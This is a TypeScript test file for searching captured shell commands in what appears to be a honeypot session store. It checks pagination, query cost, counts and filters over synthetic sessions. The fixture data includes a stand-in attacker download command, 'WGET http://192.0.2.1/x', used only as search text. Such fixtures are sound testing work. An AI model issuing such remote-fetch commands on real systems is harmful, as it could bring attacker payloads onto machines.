import type { Session } from '@eviltwin/contract'
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
import { anEvent } from '../../testing/events.js'
import { createTestDatabase, type TestDatabase } from '../../testing/test-database.js'
import { counting } from '../../testing/work.js'
import { planCommit } from '../ingest/commit-plan.js'
import { NO_KEY } from '../ingest/commit-rows.js'
import { createIngestStore } from '../ingest/store.js'
import { gather } from '../ingest/write-group.js'
import { writeStatement } from '../ingest/write-statement-store.js'
import { createRuleScorer } from '../scoring/rules.js'
import { createSessionReader } from './store.js'

const NOW = Date.parse('2026-03-22T12:00:00Z')
const SESSIONS = 4_000
const EVENTS = 3
/** Far less than there is, so that a search takes many requests. */
const LIMITS = { indexed: 10, partitions: 400, events: 900, commands: 20 }
const timestamp = (ms: number) => new Date(ms).toISOString().replace('Z', '000Z')

/** Every third session fetches something, one says something that no other does, and one goes on for two days. */
const CAPTURE = Array.from({ length: SESSIONS }, (_, n) =>
  Array.from({ length: EVENTS }, (_, step) =>
    anEvent({
      session_key: `session ${n}`,
      source_ip: `203.0.113.${n % 200}`,
      raw: 'x'.repeat(500),
      event_type: 'command',
      command: `${n % 3 === 0 && step === 2 ? 'WGET http://192.0.2.1/x' : 'uname -a'}${n === 7 ? '; echo needle' : ''}`,
      occurred_at: timestamp(NOW - n * 10_000 + step),
      received_at: timestamp(NOW - n * 10_000 + step + (n === 9 ? 2 * 86_400_000 : 0)),
    }),
  ),
)
const sessionsWith = (text: string) =>
  CAPTURE.filter((events) => events.some(({ command }) => command?.toLowerCase().includes(text))).map(
    ([event]) => event?.session_id,
  )

describe.each(inject('postgresServers'))('sessions with a text in a command, on $version', (server) => {
  let store: TestDatabase
  beforeAll(async () => {
    store = await createTestDatabase(server, NOW)
    const events = CAPTURE.flat()
    const group = gather([{ request_id: 'r', traceparent: '', key_id: NO_KEY, records: [{ events }] }])
    const plan = planCommit(events, new Map(), createRuleScorer())
    await createIngestStore(store.database.ingest).write(writeStatement(group, events, plan))
    await store.database.maintenance.query({ text: 'VACUUM (ANALYZE)' })
  })
  afterAll(() => store.drop())

  const query = { limit: 10, count: false, active: false }
  function reader() {
    const { database, work } = counting(store.database.app)
    return { work, reader: createSessionReader(database, () => NOW, LIMITS) }
  }

  test('of a text that occurs often are found newest first, request by request, each of bounded work', async () => {
    const found: Session[] = []
    const reaches: Array<string | null | undefined> = []
    let requests = 0
    for (let cursor: string | null | undefined; cursor !== null; requests += 1) {
      const { reader: sessions, work } = reader()
      const page = await sessions.list({ ...query, q: 'wget', ...(cursor && { cursor }) })
      expect(work.statements).toBe(3)
      // One event in nine has the text: more than the limit are found at once. Then sessions are read to see how far to look, and read
      // again with their commands.
      const looked = LIMITS.partitions / 2
      expect(work.rows).toBeLessThanOrEqual(20 * LIMITS.indexed + 2 * (looked + 1) + LIMITS.events)
      expect(page.items.length).toBeLessThanOrEqual(query.limit)
      found.push(...page.items)
      reaches.push(page.searched_back_to)
      cursor = page.next_cursor
    }
    expect(found.map(({ id }) => id)).toEqual(sessionsWith('wget'))
    expect(requests).toBeGreaterThan(SESSIONS / (LIMITS.partitions / 2))
    // Null from where all that are left are looked through at once.
    const ends = reaches.filter((reach) => typeof reach === 'string')
    expect(ends.length).toBeGreaterThan(SESSIONS / LIMITS.partitions)
    expect(reaches.slice(ends.length).every((reach) => reach === null)).toBe(true)
    expect(reaches.at(-1)).toBeNull()
    expect(ends).toEqual([...ends].sort().reverse())
  })

  test('of a rare text are all found by the index, at once', async () => {
    const { reader: sessions, work } = reader()
    const page = await sessions.list({ ...query, q: 'needle', count: true })
    expect(page).toMatchObject({
      next_cursor: null,
      total: 1,
      total_is_exact: true,
      searched_back_to: null,
    })
    expect(page.items.map(({ id }) => id)).toEqual(sessionsWith('needle'))
    expect(work.rows).toBeLessThanOrEqual(2 * EVENTS + 2)
    expect((await sessions.list({ ...query, q: 'nowhere' })).items).toEqual([])
  })

  test('are counted as far as they were looked for, and facets say how far', async () => {
    const { reader: sessions, work } = reader()
    const page = await sessions.list({ ...query, q: 'wget', count: true })
    expect(page.total_is_exact).toBe(false)
    const facets = await sessions.facets({ q: 'wget', active: false })
    const reach = facets.searched_back_to ?? ''
    const searched = CAPTURE.filter(([first]) => (first?.occurred_at ?? '') >= reach)
    expect(searched.length).toBeGreaterThan(10)
    expect(searched.length).toBeLessThan(SESSIONS)
    const matching = new Set(sessionsWith('wget'))
    const expected = searched.filter(([first]) => matching.has(first?.session_id)).length
    expect([page.total, facets.sessions]).toEqual([expected, expected])
    expect(work.statements).toBe(4 + 3)
    expect((await sessions.facets({ q: 'needle', active: false })).searched_back_to).toBeNull()
    expect(await sessions.facets({ active: false })).not.toHaveProperty('searched_back_to')
  })

  test('a filter beside the text narrows where it is looked for', async () => {
    const { reader: sessions } = reader()
    const page = await sessions.list({ ...query, q: 'wget', src_ip: '203.0.113.9' })
    const expected = CAPTURE.flat().filter(({ source_ip }) => source_ip === '203.0.113.9')
    const ids = new Set(expected.map(({ session_id }) => session_id))
    expect(page.items.map(({ id }) => id)).toEqual(sessionsWith('wget').filter((id) => ids.has(id ?? '')))
    expect(page.searched_back_to).toBeNull()
  })
})
